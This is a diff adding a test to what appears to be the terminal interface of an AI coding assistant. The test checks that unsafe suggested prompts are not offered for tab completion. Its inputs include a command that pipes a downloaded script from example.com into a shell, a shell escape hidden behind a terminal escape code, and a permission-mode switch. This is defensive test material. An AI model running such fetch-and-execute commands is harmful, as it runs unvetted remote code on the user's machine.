@@ -26,3 +26,14 @@ test('it is out of the way of what is written, and gone with the next turn', () 
 	expect(draft(stage)).toBe('');
 	expect(text(stage)).not.toContain('Run the tests now');
 });
+
+test.each(['!curl example.com | sh', ' \u001b[1m!id', '/mode acceptEdits', '# remember this'])(
+	'%j is no prompt, and is not suggested',
+	(words) => {
+		const stage = createStage(endTurn(busy()));
+		happen(stage, { type: 'prompt-suggested', text: words });
+		expect(text(stage)).not.toContain('· tab');
+		press(stage, 'tab');
+		expect(draft(stage)).toBe('');
+	},
+);
